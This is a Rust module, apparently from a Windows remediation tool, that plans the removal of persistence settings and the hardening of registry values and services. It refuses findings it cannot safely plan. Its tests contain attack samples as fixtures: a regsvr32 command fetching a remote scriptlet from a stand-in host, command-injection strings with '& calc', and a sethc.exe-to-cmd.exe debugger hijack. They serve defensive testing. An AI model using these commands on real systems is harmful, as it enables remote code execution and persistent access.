//! Steps for settings and for values of the registry that start something.

use super::parts::{Step, fields, image, is_registry_key, reset, unknown};
use super::{Target, Verb, subject};
use crate::messages as m;
use crate::{guard, hosts, stock_values};
use detect::assessment::{Finding, Kind};
use evidence::Message;
use intel::Intel;
use machine::Key;
use serde_json::{Map, Value as Json};

/// Where persistent routes are; the name of a value is the route.
const ROUTES: &str = r"HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\PersistentRoutes";

/// Where services and drivers are set up.
const SERVICES: &str = r"HKLM\SYSTEM\CurrentControlSet\Services";

/// Where a policy names exclusions of Defender. Those of the user are guarded by Defender itself.
const POLICY_EXCLUSIONS: &str = r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions";

/// Places whose entries are keys, and the value in them that starts something.
const IN_KEYS: [(&str, &str); 2] =
    [("image file execution options", "Debugger"), ("silentprocessexit", "MonitorProcess")];

/// A setting. What has no place of its own that a machine can be asked to change is left to a person.
pub(super) fn setting(finding: &Finding) -> Step {
    let subject = &finding.subject;
    let kind = subject::text(subject, &["Kind"]).ok_or_else(|| unknown("Kind"))?;
    if kind == "registry-value" {
        return stored(finding);
    }
    // These have no name where they are of the whole machine.
    match kind.as_str() {
        "hosts-folder" => {
            let key = Key::new(machine::PARAMETERS_OF_TCPIP);
            return reset(&key, machine::HOSTS_FOLDER, subject::text(subject, &["Value"]), true);
        }
        "dns-server" => return Err(m::REFUSE_DNS.with([finding.name.as_str().into()])),
        _ => {}
    }
    let name = subject::text(subject, &["Name"]).ok_or_else(|| unknown("Name"))?;
    let by_hand = || m::REFUSE_BY_HAND.with([finding.name.as_str().into()]);
    match kind.as_str() {
        hosts::KIND => {
            let value = subject::text(subject, &["Value"]).ok_or_else(|| unknown("Value"))?;
            let target = Target::Setting { setting: kind, name: hosts::target(&value, &name) };
            Ok((Verb::Remove, target, fields([("Value", Some(value))])))
        }
        "portproxy" => {
            let value = subject::text(subject, &["Value"]).ok_or_else(|| unknown("Value"))?;
            let target = Target::Setting { setting: kind, name };
            let families = subject::text(subject, &["families"]);
            Ok((Verb::Remove, target, fields([("Value", Some(value)), ("families", families)])))
        }
        "route" => Ok(remove_value(ROUTES.to_owned(), name, String::new())),
        "defender-exclusion" if subject::text(subject, &["given_by"]).as_deref() == Some("policy") => {
            let folder = match subject::text(subject, &["Value"]).as_deref() {
                Some("paths") => "Paths",
                Some("processes") => "Processes",
                Some("extensions") => "Extensions",
                _ => return Err(by_hand()),
            };
            // Group policy gives every exclusion the number 0.
            Ok(remove_value(format!("{POLICY_EXCLUSIONS}\\{folder}"), name, "0".to_owned()))
        }
        "defender-exclusion" => Err(m::REFUSE_EXCLUSION.with([finding.name.as_str().into()])),
        "ipsec-policy" => Err(m::REFUSE_IPSEC.with([finding.name.as_str().into()])),
        "firewall-rule" => Err(m::REFUSE_FIREWALL.with([finding.name.as_str().into()])),
        "wmi-autorecover-mof" => Err(m::REFUSE_MOF.with([finding.name.as_str().into()])),
        "bits-job" => match subject::text(subject, &["id"]).filter(|id| is_id(id)) {
            Some(id) => Err(m::REFUSE_BITS.with([finding.name.as_str().into(), id.into()])),
            None => Err(by_hand()),
        },
        _ => Err(by_hand()),
    }
}

/// Whether it is an identifier in braces, which can be part of a command.
fn is_id(text: &str) -> bool {
    let inner = text.strip_prefix('{').and_then(|text| text.strip_suffix('}'));
    inner.is_some_and(|id| id.len() == 36 && id.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-'))
}

/// A payload in a value. Only a text was read whole.
fn stored(finding: &Finding) -> Step {
    let subject = &finding.subject;
    let key = subject::text(subject, &["Key"]).ok_or_else(|| unknown("Key"))?;
    let name = subject::text(subject, &["Value Name"]).unwrap_or_default();
    let is_text = subject::text(subject, &["Type"]).is_some_and(|kind| kind.ends_with("SZ"));
    let data = subject::text(subject, &["Data"]).filter(|_| is_text);
    match data {
        Some(data) if is_registry_key(&key) && !is_of_a_user(&key) => {
            let (verb, target, mut precondition) = remove_value(key, name, data);
            precondition.fields.extend(fields([("Type", subject::text(subject, &["Type"]))]).fields);
            Ok((verb, target, precondition))
        }
        _ => Err(m::REFUSE_BY_HAND.with([finding.name.as_str().into()])),
    }
}

fn remove_value(key: String, name: String, data: String) -> (Verb, Target, super::Precondition) {
    (Verb::Remove, Target::RegistryValue { key, name }, fields([("Data", Some(data))]))
}

/// Whether a key stands in the hive of whoever is logged on: in evidence from a disk that is another user than the one who applies the plan.
fn is_of_a_user(key: &str) -> bool {
    key.split('\\').next().is_some_and(|root| {
        ["HKCU", "HKEY_CURRENT_USER"].iter().any(|known| known.eq_ignore_ascii_case(root))
    })
}

/// An entry of an autostart place.
pub(super) fn autostart(finding: &Finding, intel: &Intel) -> Vec<Step> {
    let subject = &finding.subject;
    let location = subject::text(subject, &["Entry Location", "Key", "Location"]);
    let name = subject::text(subject, &["Entry", "Name", "Value Name"]).unwrap_or_default();
    let data = subject::text(subject, &["Launch String", "Data", "Value"]);
    let Some(location) = location else { return vec![Err(unknown("Key"))] };
    if let Some((key, value)) = stock_values::well_known(&location, &name) {
        // Where the entry is named like the value, its data was read and not one program of it.
        let whole = value.eq_ignore_ascii_case(&name) && location.eq_ignore_ascii_case(&key.0);
        return vec![reset(&key, &value, data, whole)];
    }
    if is_start_up_folder(&location) {
        return vec![start_up_file(finding, &location, &name)];
    }
    if is_of_a_user(&location)
        && let Some(user) = subject::text(subject, &["Profile"])
    {
        return vec![Err(m::REFUSE_OTHER_USER.with([finding.name.as_str().into(), user.into()]))];
    }
    let Some(value) = value_of(finding, &location, name) else {
        return vec![Err(m::REFUSE_BY_HAND.with([finding.name.as_str().into()]))];
    };
    let Some(data) = data else { return vec![Err(unknown("Data"))] };
    let mut steps = vec![Ok(remove_value(location, value, data))];
    steps.extend(image(finding, intel));
    steps
}

/// Whether a place is a folder whose programs start when somebody logs on.
fn is_start_up_folder(location: &str) -> bool {
    guard::is_plain_path(location) && location.to_lowercase().ends_with(r"\start menu\programs\startup")
}

/// A file in such a folder goes itself: it is the entry. Where it is a shortcut, what it starts stays.
fn start_up_file(finding: &Finding, folder: &str, name: &str) -> Step {
    let subject = &finding.subject;
    let path = format!("{folder}\\{name}");
    if let Some(refused) = guard::path(&path, None) {
        return Err(refused);
    }
    // Listings that follow a shortcut give the hash of what it starts.
    let own = subject::text(subject, &["Image Path"]).is_none_or(|image| image.eq_ignore_ascii_case(&path));
    let sha256 = subject::text(subject, &["SHA-256"]).filter(|_| own).ok_or_else(|| unknown("SHA-256"))?;
    Ok((Verb::Remove, Target::File { path }, fields([("SHA256", Some(sha256.to_lowercase()))])))
}

/// The value that an entry stands for; `None` where that is not known for sure.
fn value_of(finding: &Finding, location: &str, name: String) -> Option<String> {
    if !is_registry_key(location) {
        return None;
    }
    if finding.kind == Kind::Run {
        return Some(name);
    }
    let above = location.rsplit_once('\\')?.0.to_lowercase();
    let (_, value) = IN_KEYS.iter().find(|(place, _)| above.ends_with(place))?;
    Some((*value).to_owned())
}

/// What closes a gap: its registry values and services, each as the facts say. What takes more than that is left to a person, who is told how.
pub(super) fn harden(finding: &Finding, intel: &Intel) -> Vec<Step> {
    let check = subject::text(&finding.subject, &["Check"]).and_then(|id| intel.hardening().check(&id));
    let Some(check) = check.filter(|check| check.can_be_planned()) else {
        return vec![Err(by_hand(finding))];
    };
    let values =
        ["Values", "Also"].iter().filter_map(|list| finding.subject.get(*list)?.as_array()).flatten();
    let read: Vec<_> = values.filter_map(Json::as_object).collect();
    let data = |key: &str, name: &str| {
        let is = |value: &Map<String, Json>, field: &str, wanted: &str| {
            subject::text(value, &[field]).is_some_and(|own| own.eq_ignore_ascii_case(wanted))
        };
        let found = read.iter().find(|value| is(value, "Key", key) && is(value, "Name", name))?;
        subject::text(found, &["Data"])
    };
    let services = check.services.iter().map(|service| {
        let key = format!("{SERVICES}\\{}", service.name);
        let precondition = fields([("Start", service.start.and_then(|_| data(&key, "Start")))]);
        Ok((Verb::Harden, Target::Service { name: service.name.clone() }, precondition))
    });
    // The evidence only says what is; what should be says the program.
    let values = read.iter().filter_map(|value| {
        let (key, name) = (subject::text(value, &["Key"])?, subject::text(value, &["Name"])?);
        intel.hardening().to_set(&key, &name)?;
        let precondition = fields([("Data", subject::text(value, &["Data"]))]);
        Some(Ok((Verb::Harden, Target::RegistryValue { key, name }, precondition)))
    });
    let steps: Vec<Step> = values.chain(services).collect();
    if steps.is_empty() { vec![Err(by_hand(finding))] } else { steps }
}

/// That a person closes the gap, and how.
fn by_hand(finding: &Finding) -> Message {
    by_command(finding).unwrap_or_else(|| m::REFUSE_GAP.with([finding.name.as_str().into()]))
}

/// The commands of a finding that do it and take it back, which the program wrote; `None` where it has none.
pub(super) fn by_command(finding: &Finding) -> Option<Message> {
    let commands = |id: &str| {
        let own = finding.reasons.iter().filter(|reason| reason.id == id);
        own.filter_map(|reason| reason.text("command")).collect::<Vec<_>>().join(" ; ")
    };
    let (set, undo) = (commands("hardening-set"), commands("hardening-undo"));
    let both = !set.is_empty() && !undo.is_empty();
    both.then(|| m::REFUSE_COMMAND.with([finding.name.as_str().into(), set.into(), undo.into()]))
}

#[cfg(test)]
mod tests {
    use crate::apply::test_support::intel;
    use crate::plan::{Choice, plan};
    use detect::assess;
    use detect::assessment::Kind;
    use evidence::{
        AutostartEntry, AutostartKind, Evidence, Host, Location, NameSource, Provenance, Record, RecordData,
        Setting, Source,
    };
    use std::collections::BTreeMap;

    fn evidence(records: impl IntoIterator<Item = RecordData>) -> Evidence {
        let provenance = Provenance { source: 0, location: Location::Whole };
        Evidence {
            host: Host::named("PC-1", NameSource::Record),
            sources: vec![Source {
                path: "PC-1".into(),
                member: None,
                sha256: None,
                length: 1,
                format: "registry-hive".into(),
            }],
            records: records.into_iter().map(|data| Record { provenance, data }).collect(),
            ..Evidence::default()
        }
    }

    fn setting(kind: &str, name: &str, value: &str, details: &[(&str, &str)]) -> RecordData {
        RecordData::Setting(Setting {
            kind: kind.into(),
            name: name.into(),
            value: value.into(),
            details: details.iter().map(|(n, v)| ((*n).into(), (*v).into())).collect::<BTreeMap<_, _>>(),
        })
    }

    fn entry(kind: AutostartKind, category: &str, location: &str, name: &str, launch: &str) -> RecordData {
        RecordData::Autostart(AutostartEntry {
            kind: Some(kind),
            category: category.into(),
            location: location.into(),
            name: name.into(),
            launch_string: Some(launch.into()),
            profile: location.starts_with("HKCU").then(|| "me".into()),
            ..AutostartEntry::default()
        })
    }

    /// Every finding included: its steps, and why there are none.
    fn planned(record: RecordData) -> (Vec<String>, Vec<String>) {
        let assessment = assess(&evidence([record]), intel());
        let include = assessment.findings.iter().map(|finding| finding.id.clone()).collect();
        let plan = plan(&assessment, intel(), &Choice { include, ..Choice::default() });
        assert_eq!(plan.validate(), Ok(()));
        let actions = plan.actions.iter().map(|action| format!("{:?} {}", action.verb, action.target.name()));
        (actions.collect(), plan.refused.iter().map(|refusal| refusal.why.id.clone()).collect())
    }

    #[test]
    fn what_detection_finds_can_be_planned() {
        let winlogon = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
        let ifeo =
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe";
        let other = AutostartKind::Other;
        for (record, step) in [
            (
                setting("hosts-entry", "update.eset.com", "127.0.0.1", &[]),
                "Remove hosts-entry 127.0.0.1 update.eset.com",
            ),
            (
                setting("portproxy", "0.0.0.0:65529", "1.1.1.1:53", &[("families", "v4tov4")]),
                "Remove portproxy 0.0.0.0:65529",
            ),
            (
                setting("route", "198.51.100.7,255.255.255.255,0.0.0.0,1", "", &[]),
                r"Remove HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\PersistentRoutes\198.51.100.7,255.255.255.255,0.0.0.0,1",
            ),
            (
                setting("hosts-folder", "", r"C:\ProgramData\net", &[]),
                r"Reset HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\DataBasePath",
            ),
            (
                setting("defender-exclusion", "C:\\", "paths", &[("given_by", "policy")]),
                r"Remove HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths\C:\",
            ),
            (
                entry(
                    other,
                    "Logon",
                    winlogon,
                    "Userinit",
                    r"C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe",
                ),
                r"Reset HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit",
            ),
            (
                entry(other, "Image Hijacks", ifeo, "sethc.exe", "cmd.exe"),
                r"Remove HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger",
            ),
        ] {
            assert_eq!(planned(record), (vec![step.to_owned()], Vec::new()));
        }
    }

    const BITS_COMMAND: &str = "regsvr32.exe /s /u /i:http://a.example/x.sct scrobj.dll";

    #[test]
    fn what_a_plan_cannot_do_is_left_to_a_person() {
        let com = r"HKCU\Software\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32";
        for (record, reason) in [
            (setting("defender-exclusion", "C:\\", "paths", &[]), "refuse-exclusion"),
            (setting("ipsec-policy", "netbc", "ipsecPolicy", &[]), "refuse-ipsec"),
            (setting("wmi-autorecover-mof", r"C:\Users\Public\x.mof", "", &[]), "refuse-mof"),
            (
                setting("bits-job", "x", BITS_COMMAND, &[("id", "{5e8f4b9a-0f2d-4a7c-9c62-000000000001}")]),
                "refuse-bits",
            ),
            (setting("bits-job", "x", BITS_COMMAND, &[("id", "{1}\" & calc")]), "refuse-by-hand"),
            (
                entry(
                    AutostartKind::Other,
                    "COM",
                    com,
                    "{BCDE0395-E52F-467C-8E3D-C4579291692E}",
                    r"C:\Users\me\x.dll",
                ),
                "refuse-other-user",
            ),
        ] {
            assert_eq!(planned(record), (Vec::new(), vec![reason.to_owned()]));
        }
    }

    fn dword(key: &str, name: &str, data: &str) -> RecordData {
        RecordData::Registry(evidence::RegistryValue {
            key: key.into(),
            name: name.into(),
            kind: "REG_DWORD".into(),
            data: data.into(),
            key_written: None,
        })
    }

    /// The steps for what these records open, and the refusals.
    fn hardened(records: Vec<RecordData>) -> (Vec<String>, Vec<evidence::Message>) {
        let assessment = assess(&evidence(records), intel());
        let include = assessment.findings.iter().filter(|finding| finding.kind == Kind::Hardening);
        let include = include.map(|finding| finding.id.clone()).collect();
        let plan = plan(&assessment, intel(), &Choice { include, ..Choice::default() });
        assert_eq!(plan.validate(), Ok(()));
        let line = |action: &crate::Action| {
            let fields: Vec<_> = action.precondition.fields.iter().map(|(n, v)| format!("{n}={v}")).collect();
            format!("{} {}", action.target.name(), fields.join(",")).trim().to_owned()
        };
        let refused = plan.refused.into_iter().map(|refusal| refusal.why).collect();
        (plan.actions.iter().map(line).collect(), refused)
    }

    #[test]
    fn gaps_are_closed_by_all_their_values_and_services_in_order() {
        let services = r"HKLM\SYSTEM\CurrentControlSet\Services";
        let product = r"HKLM\SYSTEM\CurrentControlSet\Control\ProductOptions";
        let (lsa, guard) = (
            r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa",
            r"HKLM\SYSTEM\CurrentControlSet\Control\DeviceGuard",
        );
        let logon = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
        let windows = setting("os-build", "", "10.0.19045", &[("product", "Windows 10 Enterprise")]);
        let (steps, refused) = hardened(vec![
            windows,
            dword(product, "ProductType", "WinNT"),
            dword(&format!("{services}\\mrxsmb10"), "Start", "2"),
            dword(&format!("{services}\\WinRM"), "Start", "2"),
            dword(lsa, "LsaCfgFlags", "0"),
            dword(guard, "EnableVirtualizationBasedSecurity", "0"),
            dword(guard, "RequirePlatformSecurityFeatures", "3"),
            dword(logon, "AutoAdminLogon", "1"),
        ]);
        assert_eq!(refused, []);
        let expected = [
            format!(r"{logon}\AutoAdminLogon Data=1"),
            format!(r"{guard}\EnableVirtualizationBasedSecurity Data=0"),
            format!(r"{lsa}\LsaCfgFlags Data=0"),
        ];
        assert_eq!(steps[2..5], expected, "{steps:#?}");
        let place = |name: &str| steps.iter().position(|step| step.starts_with(name));
        assert!(place("LanmanWorkstation") < place("mrxsmb10 Start=2"), "{steps:#?}");
        assert!(place("LanmanWorkstation").is_some() && place("WinRM Start=2").is_some(), "{steps:#?}");
        assert_eq!(steps.len(), 6);
    }

    #[test]
    fn a_guest_that_is_an_administrator_is_left_to_a_person_with_the_commands() {
        let guest = evidence::Account {
            name: "Gast & calc".into(),
            rid: Some(501),
            administrator: Some(true),
            ..evidence::Account::default()
        };
        let assessment = assess(&evidence([RecordData::Account(guest)]), intel());
        let include = assessment.findings.iter().filter(|finding| finding.kind == Kind::Account);
        let include = include.map(|finding| finding.id.clone()).collect();
        let plan = plan(&assessment, intel(), &Choice { include, ..Choice::default() });
        let [refused] = &plan.refused[..] else { panic!("{plan:?}") };
        let told = |name| refused.why.text(name).unwrap_or_default();
        assert!(
            told("command").contains("Remove-LocalGroupMember")
                && told("undo").contains("Add-LocalGroupMember")
        );
        assert!(!told("command").contains("calc"), "{refused:?}");
    }

    #[test]
    fn a_gap_that_no_plan_closes_is_refused_with_its_command_and_what_takes_it_back() {
        let firewall =
            r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\PublicProfile";
        let rules =
            r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules";
        let real_time = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection";
        for (record, set, undo) in [
            (dword(firewall, "EnableFirewall", "0"), "publicprofile state on", "publicprofile state off"),
            (dword(rules, "WMI-WINMGMT-In-TCP", "v2.10|Active=TRUE|"), "new enable=no", "new enable=yes"),
            (dword(real_time, "DisableRealtimeMonitoring", "1"), "Monitoring $false", "Monitoring $true"),
            (
                setting("account-policy", "LockoutBadCount", "0", &[]),
                "lockoutthreshold:5",
                "lockoutthreshold:0",
            ),
        ] {
            let windows = setting("os-build", "", "10.0.19045", &[]);
            let (steps, refused) = hardened(vec![windows, record]);
            assert_eq!(steps, Vec::<String>::new());
            let told = |name| refused[0].text(name).unwrap_or_default();
            assert!(told("command").ends_with(set) && told("undo").ends_with(undo), "{refused:?}");
        }
        // What group policy sets has no local command.
        let policy = r"HKLM\SOFTWARE\Policies\Microsoft\WindowsFirewall\PublicProfile";
        let windows = setting("os-build", "", "10.0.19045", &[]);
        let (steps, refused) = hardened(vec![windows, dword(policy, "EnableFirewall", "0")]);
        assert_eq!((steps, refused[0].id.as_str()), (Vec::new(), "refuse-gap"));
    }
}
